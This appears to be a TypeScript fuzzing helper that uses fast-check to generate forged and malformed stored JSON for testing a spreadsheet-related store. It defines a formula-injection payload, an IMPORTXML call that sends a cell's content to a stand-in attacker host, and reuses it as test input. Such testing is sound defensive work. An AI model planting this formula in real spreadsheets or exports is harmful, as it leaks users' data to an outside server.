import fc from 'fast-check';

/** A formula that sends a cell away as soon as it is in a cell. */
export const LIVE = '=IMPORTXML("https://evil.example/?"&A2,"//a")';

/** One thing that is not what it claims to be. */
const WRONG: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom<unknown>(
    ...[LIVE, `'${LIVE}`, '+1', '-1', '', '0', null, true, -1, 0, 0.5, 1e9, 2 ** 53, -(2 ** 53), [], {}, [[LIVE]]],
    ...[
      { kind: 'number', number: LIVE },
      { kind: 'before', value: LIVE, format: '@' },
      { kind: 'text', text: LIVE },
    ],
    ...['unplaced', 'overwrite', 'x'.repeat(60_000), Array.from({ length: 100 }, () => LIVE)],
  ),
  fc.jsonValue(),
);

/**
 * A manipulation of a stored text: something in it is converted to another type, replaced, added or removed, or the
 * text itself is cut or replaced.
 */
export interface Forgery {
  /** Which of the texts, and which place in it, as fractions of all of them. */
  readonly text: number;
  readonly place: number;
  readonly is: 'twist' | 'replace' | 'add' | 'remove' | 'cut' | 'text';
  readonly wrong: unknown;
}

const part = fc.double({ min: 0, max: 0.999_999, noNaN: true });

export const FORGERY: fc.Arbitrary<Forgery> = fc.record({
  text: part,
  place: part,
  // Mostly manipulations after which the text can still be read.
  is: fc.constantFrom('twist', 'twist', 'twist', 'twist', 'twist', 'twist', 'replace', 'add', 'remove', 'cut', 'text'),
  wrong: WRONG,
});

/** @param text JSON, if it is any */
export function forge(text: string, { text: which, place, is, wrong }: Forgery): string {
  if (is === 'text') return typeof wrong === 'string' ? wrong : JSON.stringify(wrong);
  if (is === 'cut') return text.slice(0, Math.floor(place * text.length));
  let value: unknown;
  try {
    value = JSON.parse(text);
  } catch {
    return JSON.stringify(wrong);
  }
  const places = placesOf(value);
  const [holder, name] = places[Math.floor(place * places.length)] ?? [];
  if (holder === undefined || name === undefined) return JSON.stringify(wrong);
  if (is === 'twist') Reflect.set(holder, name, twist(Reflect.get(holder, name), which));
  else if (is === 'remove') Reflect.deleteProperty(holder, name);
  else if (is === 'add' && Array.isArray(holder)) holder.push(wrong);
  else Reflect.set(holder, name, wrong);
  return JSON.stringify(value);
}

const NUMBERS = [0, 1, 2, 3, 5, 40, 1_000, 2_592_000_000];
const TEXTS = [LIVE, 'Price', 'secret', 'Industry', 'domain', 'overwrite', 'a', 'u', 'uuuu', '@', 'General', 'sheet-1'];

function twist(value: unknown, which: number): unknown {
  if (typeof value === 'boolean') return !value;
  if (typeof value === 'number') return NUMBERS[Math.floor(which * NUMBERS.length)];
  return typeof value === 'string' ? TEXTS[Math.floor(which * TEXTS.length)] : value;
}

/** Every value inside another, by its container. */
function placesOf(value: unknown): readonly (readonly [object, string])[] {
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([name, inner]) => [[value, name] as const, ...placesOf(inner)]);
}
